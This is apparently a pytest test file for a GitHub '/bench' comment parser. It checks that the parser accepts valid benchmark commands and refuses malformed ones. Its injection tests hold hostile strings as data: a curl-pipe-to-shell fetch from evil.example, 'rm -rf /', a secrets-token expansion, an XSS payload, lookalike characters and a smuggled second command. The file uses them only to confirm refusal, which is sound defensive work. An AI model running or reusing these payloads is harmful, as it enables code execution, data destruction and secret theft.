"""The ``/bench`` grammar (scripts/github/bench_command.py): what runs, what is ignored,
and what is refused with a reply saying exactly why. The comment body is untrusted."""

from __future__ import annotations

import pytest
import yaml

from scripts.errors import UsageError
from scripts.github.bench_command import (
    MAX_LINE,
    MAX_OVERLAYS,
    BenchCommand,
    is_command,
    parse,
    shown,
    usage,
)
from tests.conftest import REPO_ROOT
from tests.workflow_runner import Evaluator, as_text, render


# -- well-formed ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("/bench", BenchCommand()),
        ("/bench 4x-4cpu", BenchCommand(overlays=("4x-4cpu",))),
        ("/bench 4x-4cpu 8x-2cpu", BenchCommand(overlays=("4x-4cpu", "8x-2cpu"))),
        ("/bench 4x-4cpu,8x-2cpu", BenchCommand(overlays=("4x-4cpu", "8x-2cpu"))),
        ("/bench\t4x-4cpu  8x-2cpu  ", BenchCommand(overlays=("4x-4cpu", "8x-2cpu"))),
        (
            "/bench 4x-4cpu --model digits --slo p99=40ms --quick",
            BenchCommand(overlays=("4x-4cpu",), model="digits", p99_ms=40.0, quick=True),
        ),
        (
            "/bench --quick --model=resnet50 --slo=p99=12.5ms a b",
            BenchCommand(overlays=("a", "b"), model="resnet50", p99_ms=12.5, quick=True),
        ),
        ("/bench --slo p99=40", BenchCommand(p99_ms=40.0)),
        (
            "/bench 4x-4cpu-c2 --bases stock,c2-cascadelake",
            BenchCommand(overlays=("4x-4cpu-c2",), bases=("stock", "c2-cascadelake")),
        ),
        (
            "/bench --bases=local-eigen,local-onednn",
            BenchCommand(bases=("local-eigen", "local-onednn")),
        ),
        ("/BENCH 4x-4cpu", BenchCommand(overlays=("4x-4cpu",))),
        ("/bench help", BenchCommand(help=True)),
        ("/bench --help", BenchCommand(help=True)),
        ("/bench -h", BenchCommand(help=True)),
        # Later lines are a note; \r\n line ends are a comment typed on Windows.
        ("/bench 4x-4cpu\r\n\r\nTrying the new overlay.", BenchCommand(overlays=("4x-4cpu",))),
        ("/bench 4x-4cpu\nWhat about `$(this)`?", BenchCommand(overlays=("4x-4cpu",))),
    ],
)
def test_well_formed_commands(body: str, expected: BenchCommand) -> None:
    assert parse(body) == expected


def test_describe_echoes_only_validated_parts() -> None:
    command = parse("/bench a,b --slo p99=40.0ms --model digits --quick --bases=x,y")
    assert command is not None
    assert command.describe() == "/bench a b --model digits --slo p99=40ms --bases x,y --quick"
    assert BenchCommand(help=True).describe() == "/bench help"


# -- not a command: ignored ----------------------------------------------------------------
@pytest.mark.parametrize(
    "body",
    [
        "",
        "LGTM",
        "Please run /bench 4x-4cpu",  # not at the start
        " /bench 4x-4cpu",  # leading space: GitHub's startsWith would not match either
        "\n/bench 4x-4cpu",
        "> /bench 4x-4cpu\n\nquoted",
        "\u200b/bench 4x-4cpu",  # a zero-width space in front
        "／bench 4x-4cpu",  # fullwidth solidus
    ],
)
def test_comments_that_do_not_start_with_bench_are_not_commands(body: str) -> None:
    assert not is_command(body)
    assert parse(body) is None


# -- malformed: refused, saying what is wrong ------------------------------------------------
@pytest.mark.parametrize(
    ("body", "message"),
    [
        ("/benchmark 4x-4cpu", "is not a command; did you mean `/bench`"),
        ("/bench: 4x-4cpu", "is not a command"),
        ("/bench --fast", "unknown option `--fast`"),
        ("/bench -q", "unknown option `-q`"),
        ("/bench --model", "`--model` needs a value"),
        ("/bench --model --quick", "`--model` needs a value"),
        ("/bench --model a --model b", "`--model` is given twice"),
        ("/bench --quick --quick", "`--quick` is given twice"),
        ("/bench --quick=yes", "`--quick` takes no value"),
        ("/bench --slo p99=abc", "is not `p99=<milliseconds>`"),
        ("/bench --slo p99=40s", "is not `p99=<milliseconds>`"),
        ("/bench --slo p99=-4ms", "is not `p99=<milliseconds>`"),
        ("/bench --slo p99=0ms", "out of range"),
        ("/bench --slo p99=90000ms", "out of range"),
        ("/bench --slo p95=40ms", "only the p99 latency can be set"),
        ("/bench --slo", "`--slo` needs a value"),
        ("/bench Production", "names are lower case"),
        ("/bench overlays=4x-4cpu,8x-2cpu --quick", "name overlays directly"),
        ("/bench a,,b", "an empty overlay name between commas"),
        ("/bench a a", "overlay `a` is named twice"),
        ("/bench -leading-dash", "unknown option"),
        ("/bench " + "x" * 64, "not a valid overlay name"),
        ("/bench --model Digits", "not a valid model name"),
        ("/bench help me", "`help` stands alone"),
        ("/bench a --help", "`help` stands alone"),
        ("/bench a --bases", "`--bases` needs a value"),
        ("/bench a --bases stock,,c2", "an empty base name between commas"),
        ("/bench a --bases stock,stock", "base `stock` is named twice"),
        ("/bench a --bases Stock", "not a valid base name"),
        ("/bench a --bases a,b,c,d", "4 bases named; at most 3"),
        ("/bench a b c d e --bases x,y", "5 overlays × 2 bases is 10 benchmarks; at most 8"),
        ("/bench a --bases x --bases y", "`--bases` is given twice"),
    ],
)
def test_malformed_commands_say_what_is_wrong(body: str, message: str) -> None:
    with pytest.raises(UsageError) as caught:
        parse(body)
    assert message in caught.value.what, caught.value.what
    assert caught.value.exit_code == 2 and caught.value.fix


def test_at_most_six_overlays() -> None:
    names = [f"o{i}" for i in range(MAX_OVERLAYS)]
    command = parse("/bench " + " ".join(names))
    assert command is not None and len(command.overlays) == MAX_OVERLAYS
    with pytest.raises(UsageError, match=f"{MAX_OVERLAYS + 1} overlays named; at most"):
        parse("/bench " + " ".join([*names, "o9"]))


def test_an_overlong_command_line_is_refused() -> None:
    with pytest.raises(UsageError, match=f"at most {MAX_LINE}"):
        parse("/bench " + " ".join(["abcdefgh"] * 60))


# -- injection attempts ------------------------------------------------------------------------
@pytest.mark.parametrize(
    "body",
    [
        "/bench $(curl -s https://evil.example/x | sh)",
        "/bench `id`",
        "/bench 4x-4cpu; rm -rf /",
        "/bench 4x-4cpu && curl evil.example",
        "/bench 4x-4cpu | tee /tmp/x",
        "/bench '4x-4cpu'",
        '/bench "4x-4cpu"',
        "/bench ${{ secrets.GITHUB_TOKEN }}",
        "/bench --model $(whoami)",
        "/bench --model=digits;id",
        "/bench ../../etc",
        "/bench 4x-4cpu > /etc/passwd",
        "/bench --slo p99=40ms;id",
        "/bench <img src=x onerror=alert(1)>",
        "/bench @octocat",
    ],
)
def test_shell_and_markdown_injection_is_refused(body: str) -> None:
    with pytest.raises(UsageError) as caught:
        parse(body)
    # The reply quotes the offending token in one code span: no backtick can close it.
    assert caught.value.what.count("`") % 2 == 0


@pytest.mark.parametrize(
    ("body", "code_point"),
    [
        ("/bench 4x\u20114cpu", "U+2011"),  # non-breaking hyphen
        ("/bench 4x-4cpu --m\u043edel digits", "U+043E"),  # Cyrillic о
        ("/bench 4x-4cpu\u00a08x-2cpu", "U+00A0"),  # no-break space
        ("/bench \u2014quick", "U+2014"),  # em dash from a smart editor
        ("/bench 4x-4cpu\u202e", "U+202E"),  # right-to-left override
        ("/bench 4x-4cpu\x00", "U+0000"),
        ("/bench 4x-4cpu\rinjected", "U+000D"),  # a lone carriage return
    ],
)
def test_unicode_lookalikes_and_control_characters_are_named(body: str, code_point: str) -> None:
    with pytest.raises(UsageError) as caught:
        parse(body)
    assert code_point in caught.value.what


@pytest.mark.parametrize(
    "body",
    [
        "/bench 4x-4cpu\n/bench production",
        "/bench help\n\n  /BENCH --quick",
        "/bench 4x-4cpu\r\n/bench $(id)",
    ],
)
def test_a_second_command_smuggled_on_a_later_line_is_refused(body: str) -> None:
    with pytest.raises(UsageError, match="one command per comment"):
        parse(body)


def test_shown_text_cannot_escape_its_code_span() -> None:
    assert shown("a`b") == "`a\N{REPLACEMENT CHARACTER}b`"
    assert shown("x\n@here") == "`x\N{REPLACEMENT CHARACTER}@here`"
    assert len(shown("y" * 500)) <= 42


def test_usage_names_the_grammar() -> None:
    text = usage()
    assert "/bench [OVERLAY …] [--model NAME] [--slo p99=40ms] [--bases A,B] [--quick]" in text
    assert "/bench help" in text and str(MAX_OVERLAYS) in text


# -- bench.yml's concurrency group agrees with the grammar ----------------------------------
def _group(body: str, *, association: str = "MEMBER", bot: bool = False, pr: bool = True) -> str:
    """bench.yml's concurrency group for a comment, as GitHub evaluates it."""
    workflow = yaml.safe_load((REPO_ROOT / ".github" / "workflows" / "bench.yml").read_text())
    issue: dict[str, object] = {"number": 42}
    if pr:
        issue["pull_request"] = {"url": "https://api.github.com/repos/acme/models/pulls/42"}
    user = {"login": "renovate[bot]" if bot else "octocat", "type": "Bot" if bot else "User"}
    event = {
        "issue": issue,
        "comment": {"body": body, "user": user, "author_association": association},
    }
    evaluator = Evaluator({"github": {"event": event, "run_id": "555"}}, lambda _: True)
    return as_text(render(workflow["concurrency"]["group"], evaluator))


@pytest.mark.parametrize(
    "body",
    [
        "/bench 4x-4cpu",
        "/BENCH",
        "/benchmark please",  # refused with a reply, and it does cancel: both agree
        "/bench help",
        "LGTM",
        " /bench 4x-4cpu",
        "please /bench",
        "",
    ],
)
def test_only_a_bench_command_shares_the_pull_requests_group(body: str) -> None:
    group = _group(body)
    assert (group == "bench-pr-42") == is_command(body), group
    if not is_command(body):
        assert group == "bench-comment-555"  # its own group: it cancels nothing


@pytest.mark.parametrize(
    "kwargs",
    [{"association": "NONE"}, {"association": "CONTRIBUTOR"}, {"bot": True}, {"pr": False}],
)
def test_outsiders_bots_and_issues_cannot_cancel_a_running_benchmark(
    kwargs: dict[str, object],
) -> None:
    assert _group("/bench 4x-4cpu", **kwargs) == "bench-comment-555"  # type: ignore[arg-type]


@pytest.mark.parametrize("association", ["OWNER", "MEMBER", "COLLABORATOR"])
def test_a_new_bench_from_a_possible_writer_cancels_the_running_one(association: str) -> None:
    assert _group("/bench 4x-4cpu", association=association) == "bench-pr-42"
    bench = yaml.safe_load((REPO_ROOT / ".github" / "workflows" / "bench.yml").read_text())
    assert bench["concurrency"]["cancel-in-progress"] is True
